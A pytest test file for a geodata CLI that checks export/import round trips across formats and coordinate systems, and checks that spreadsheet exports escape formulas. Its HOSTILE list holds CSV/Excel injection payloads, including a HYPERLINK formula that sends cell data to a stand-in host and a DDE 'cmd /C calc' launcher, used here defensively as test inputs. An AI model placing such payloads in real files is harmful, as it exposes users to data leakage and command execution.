"""``warroom export`` then ``warroom import --mode upsert``: every format, every row, every value.

Most rows have no external id (as most real bus stops), text that spreadsheets would
run as formulas, text longer than a shapefile holds, lists, dates and polygons; after
each round trip every attribute and geometry of every row is what it was, no row is
added, and each row's version went up by one (it was updated, not inserted).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pyogrio
import pytest
import shapely
from pyproj import CRS
from sqlalchemy import Engine, create_engine, text
from typer.testing import CliRunner

from api.cli.main import app
from importers import loads
from importers.writers import WRITE_FORMATS
from layers.features.registry import get_layer

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by its author",
    "＝1+1 全角",
    "-2+3",
    "+86 10 6512 3456",
    "\tTAB first",
]
LONG = "北京市东城区东长安街天安门广场人民英雄纪念碑以南" * 6  # 150 characters, 450 bytes
POINT = (116.3912, 39.9073)


def _feature(geometry: dict[str, Any], **properties: Any) -> dict[str, Any]:
    return {"type": "Feature", "geometry": geometry, "properties": properties}


def _point(i: int) -> dict[str, Any]:
    return {"type": "Point", "coordinates": [POINT[0] + i * 0.003, POINT[1] + i * 0.002]}


def _square(i: int) -> dict[str, Any]:
    x, y, d = POINT[0] + i * 0.01, POINT[1] - 0.02, 0.004
    ring = [[x, y], [x + d, y], [x + d, y + d], [x, y + d], [x, y]]
    return {"type": "Polygon", "coordinates": [ring]}


def _seed() -> dict[str, list[dict[str, Any]]]:
    """Features of four layers; only some have an external id."""
    units = [
        _feature(_point(i), external_id=f"u-{i}" if i % 3 == 0 else None, name=name,
                 category=("hospital", "bank", "school", "company")[i % 4],
                 address=LONG if i == 1 else name, credit_code="-12" if i == 2 else None,
                 risk_level=(None, 1, 4)[i % 3], is_key_unit=(None, True, False)[i % 3],
                 contact_name='say "hi", then\nleave' if i == 3 else None,
                 contact_phone=HOSTILE[-2] if i == 4 else None)
        for i, name in enumerate([*HOSTILE, "普通单位", LONG])
    ]  # fmt: skip
    lines = ",".join(f"{n}路" for n in range(300, 360))  # 60 lines, 299 bytes
    stops = [
        _feature(_point(i), external_id=None if i else "b-0", name=f"站{i}",
                 code=HOSTILE[i % len(HOSTILE)][:32], lines=lines if i < 2 else f"{i}路")
        for i in range(5)
    ]  # fmt: skip
    sites = [
        _feature(_square(i), external_id=None, name=f"工地{i}", project=HOSTILE[i],
                 contractor=LONG if i == 0 else None, is_rail=i == 1,
                 starts_on="2026-03-0" + str(i + 1), ends_on=None)
        for i in range(3)
    ]  # fmt: skip
    rail = [
        _feature({"type": "MultiLineString", "coordinates": [[_point(i)["coordinates"],
                  _point(i + 3)["coordinates"], _square(i)["coordinates"][0][2]]]},
                 external_id=f"l-{i}" if i else None, name=f"{i + 1}号线", code=f"{i + 1:02d}",
                 colour="#C23A30" if i else None)
        for i in range(2)
    ]  # fmt: skip
    return {"units": units, "bus_stations": stops, "construction_sites": sites,
            "rail_lines": rail}  # fmt: skip


@pytest.fixture
def cli(scratch_database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
    """The CLI on an empty database of the test's own; yield an engine on it."""
    monkeypatch.setenv("WARROOM_DATABASE_URL", scratch_database_url)
    engine = create_engine(scratch_database_url)
    yield engine
    engine.dispose()


def warroom(*args: str) -> str:
    """Run the ``warroom`` command; return its output (it must succeed)."""
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def snapshot(engine: Engine, layer: str) -> dict[int, tuple[Any, ...]]:
    """Return every row of ``layer``: id -> (version, external id, attributes..., geometry)."""
    names = ", ".join(a.name for a in get_layer(layer).attributes)
    sql = f"SELECT id, version, external_id, {names}, ST_AsBinary(geom) FROM {layer} ORDER BY id"
    with engine.connect() as connection:
        rows = connection.execute(text(sql)).all()
    return {r[0]: (*r[1:-1], shapely.from_wkb(bytes(r[-1]))) for r in rows}


def assert_same(
    before: dict[int, tuple[Any, ...]], after: dict[int, tuple[Any, ...]], label: str = ""
) -> None:
    """Every row is still there once, with the same values, one version later."""
    assert after.keys() == before.keys()
    for key, old in before.items():
        new = after[key]
        assert new[0] == old[0] + 1, (label, key, "not updated")
        assert new[1:-1] == old[1:-1], (label, key)
        # A shapefile turns outer rings clockwise: the same vertices, in another order.
        a, b = new[-1], old[-1]
        same = shapely.get_num_coordinates(a) == shapely.get_num_coordinates(b)
        assert same and shapely.hausdorff_distance(a, b) < 1e-6, (label, key, a.wkt, b.wkt)


@pytest.fixture
def seeded(cli: Engine, tmp_path: Path) -> Engine:
    """The four layers loaded from GeoJSON by ``warroom import``."""
    for layer, features in _seed().items():
        path = tmp_path / f"seed_{layer}.geojson"
        document = {"type": "FeatureCollection", "features": features}
        path.write_text(json.dumps(document, ensure_ascii=False), encoding="utf-8")
        assert f"inserted {len(features)}," in warroom("import", str(path), "--layer", layer)
    return cli


@pytest.mark.parametrize("layer", ["units", "bus_stations", "construction_sites", "rail_lines"])
def test_every_export_goes_back_by_id_without_loss_or_duplicates(
    seeded: Engine, tmp_path: Path, layer: str
) -> None:
    for fmt, (suffix, _) in WRITE_FORMATS.items():
        for crs in ("wgs84", "gcj02", "bd09") if fmt != "kml" else ("wgs84",):
            before = snapshot(seeded, layer)
            path = tmp_path / f"{layer}_{crs}_{fmt}{suffix}"
            warroom("export", "--layer", layer, "--format", fmt, "--crs", crs, "-o", str(path))
            # The issue's own command for a shapefile; the others find their ids alone.
            by = ["--id-field", "external_id"] if fmt == "shp" else []
            output = warroom("import", str(path), "--layer", layer, "--mode", "upsert", *by)
            assert f"inserted 0, updated {len(before)}," in output, (fmt, crs, output)
            assert_same(before, snapshot(seeded, layer), f"{fmt} {crs}")


def test_a_row_matched_by_id_keeps_an_external_id_set_since(seeded: Engine, tmp_path: Path) -> None:
    path = tmp_path / "stops.csv"
    warroom("export", "--layer", "bus_stations", "--format", "csv", "-o", str(path))
    with seeded.begin() as connection:
        connection.execute(text("UPDATE bus_stations SET external_id = 'set-later' WHERE id = 2"))
    before = snapshot(seeded, "bus_stations")
    warroom("import", str(path), "--layer", "bus_stations", "--mode", "upsert", "--id-field", "id")
    after = snapshot(seeded, "bus_stations")
    assert after[2][1] == "set-later"
    assert_same(before, after)


def test_ids_of_another_layer_or_database_are_refused(seeded: Engine, tmp_path: Path) -> None:
    path = tmp_path / "stops.csv"
    warroom("export", "--layer", "bus_stations", "--format", "csv", "-o", str(path))
    with seeded.begin() as connection:
        connection.execute(text("DELETE FROM bus_stations WHERE id = 3"))
    before = snapshot(seeded, "bus_stations")
    output = warroom("import", str(path), "--layer", "bus_stations", "--mode", "upsert")
    assert "updated 4," in output and "1 x the layer has no feature with this id" in output
    assert_same(before, snapshot(seeded, "bus_stations"))
    again = warroom("import", str(path), "--layer", "bus_stations", "--mode", "upsert")
    assert "rejected 1" in again  # the deleted stop is not brought back under a new id


def test_formula_text_is_escaped_in_csv_and_a_text_cell_in_xlsx(
    seeded: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "units.csv"
    warroom("export", "--layer", "units", "--format", "csv", "-o", str(path))
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    names = {row["name"] for row in rows}
    assert "'" + HOSTILE[0] in names and "''=already quoted by its author" in names
    assert {"'＝1+1 全角", "'-2+3", "'\tTAB first"} <= names
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "＝")), value
            assert not value.startswith("-") or float(value) < 0, value
    assert {row["credit_code"] for row in rows} >= {"-12"}  # a number, not a formula
    assert ',"' + "'" + '=HYPERLINK(""http://x/?""&A1,""click"")",' in path.read_text("utf-8-sig")
    book_path = tmp_path / "units.xlsx"
    warroom("export", "--layer", "units", "--format", "xlsx", "-o", str(book_path))
    sheet = openpyxl.load_workbook(book_path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile = [c for c in cells if c.value in HOSTILE]
    assert {c.value for c in hostile} >= set(HOSTILE[:4])  # as written, no quote added
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    ids = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in ids)


def test_a_negative_number_in_a_reject_file_stays_a_number(cli: Engine, tmp_path: Path) -> None:
    path = tmp_path / "units.csv"
    path.write_text("名称,类别,风险等级,lon,lat\n甲,bank,-1,116.39,39.90\n", encoding="utf-8")
    output = warroom("import", str(path), "--layer", "units")
    assert "risk_level: must be between" in output
    rejects = (tmp_path / "units.rejects.csv").read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(rejects)))[1][2] == "-1"


@pytest.mark.parametrize(("crs", "name"), [("gcj02", "GCJ-02"), ("bd09", "BD-09")])
def test_shifted_exports_name_their_system_and_never_wgs84(
    seeded: Engine, tmp_path: Path, crs: str, name: str
) -> None:
    for fmt in ("geojson", "gpkg", "shp"):
        path = tmp_path / f"units_{crs}{WRITE_FORMATS[fmt][0]}"
        warroom("export", "--layer", "units", "--format", fmt, "--crs", crs, "-o", str(path))
        declared = CRS.from_user_input(pyogrio.read_info(path)["crs"])
        assert declared.to_epsg() is None and name in declared.name, (fmt, declared)
        assert not declared.equals(CRS.from_epsg(4326), ignore_axis_order=True), fmt
    document = json.loads((tmp_path / f"units_{crs}.geojson").read_text(encoding="utf-8"))
    assert (
        "CRS84" not in json.dumps(document["crs"]) and name in document["crs"]["properties"]["name"]
    )
    with zipfile.ZipFile(tmp_path / f"units_{crs}.zip") as archive:
        assert f'DATUM["D_{name.replace("-", "_")}"' in archive.read("units.prj").decode()
    warroom(
        "export", "--layer", "units", "--format", "csv", "--crs", crs, "-o", str(tmp_path / "u.csv")
    )
    header = (tmp_path / "u.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert f'"lon_{crs}","lat_{crs}"' in header
    kml = CliRunner().invoke(app, ["export", "--layer", "units", "--format", "kml", "--crs", crs])
    assert kml.exit_code == 2 and "WGS84 by definition" in kml.output
    assert not list(Path().glob(f"units_{crs}.kml"))
    plain = tmp_path / "units.gpkg"
    warroom("export", "--layer", "units", "--format", "gpkg", "-o", str(plain))
    assert CRS.from_user_input(pyogrio.read_info(plain)["crs"]).to_epsg() == 4326


def test_a_shapefile_cut_is_reported_and_the_full_text_travels_with_it(
    seeded: Engine, tmp_path: Path
) -> None:
    path = tmp_path / "stops.zip"
    output = warroom("export", "--layer", "bus_stations", "--format", "shp", "-o", str(path))
    assert "2 text values longer than 254 bytes (field lines) are cut" in " ".join(output.split())
    assert "bus_stations.long_text.csv" in output
    dbf = pyogrio.read_dataframe(f"/vsizip/{path}/bus_stations.shp")
    assert max(len(v.encode()) for v in dbf["lines"]) == 254
    with zipfile.ZipFile(path) as archive:
        kept = list(
            csv.DictReader(io.StringIO(archive.read("bus_stations.long_text.csv").decode()))
        )
    assert len(kept) == 2 and all(len(k["value"].encode()) > 254 for k in kept)
    units = warroom("export", "--layer", "units", "--format", "shp", "-o", str(tmp_path / "u.zip"))
    assert "external_id -> external_i" in units and "(field address, name)" in units


def test_real_bus_stops_go_back_from_a_gcj02_shapefile(
    cli: Engine, shared_data: Path, tmp_path: Path
) -> None:
    source = shared_data / "bus_stops_2012_gcj02.geojson"
    loaded = warroom("import", str(source), "--layer", "bus_stations", "--crs", "gcj02")
    assert "inserted 18832," in loaded  # none has an external id
    before = snapshot(cli, "bus_stations")
    path = tmp_path / "stops_gcj02.zip"
    output = " ".join(
        warroom("export", "--layer", "bus_stations", "--format", "shp", "--crs", "gcj02",
                "-o", str(path)).split()
    )  # fmt: skip
    assert "12 text values longer than 254 bytes (field lines) are cut" in output
    again = warroom("import", str(path), "--layer", "bus_stations", "--mode", "upsert")
    assert "(shapefile, gcj02, mode upsert)" in " ".join(again.split())
    assert "inserted 0, updated 18832," in again and "12 of 12 long text values put back" in again
    assert_same(before, snapshot(cli, "bus_stations"))


@pytest.mark.parametrize("fmt", ["csv", "gpkg"])
def test_a_bulk_load_matches_by_id_too(
    seeded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    monkeypatch.setattr(loads, "BULK_ROWS", 1)  # the rebuild-and-swap path of a million rows
    before = snapshot(seeded, "units")
    path = tmp_path / f"units{WRITE_FORMATS[fmt][0]}"
    warroom("export", "--layer", "units", "--format", fmt, "-o", str(path))
    output = warroom("import", str(path), "--layer", "units", "--mode", "upsert")
    assert f"inserted 0, updated {len(before)}," in output
    assert_same(before, snapshot(seeded, "units"))
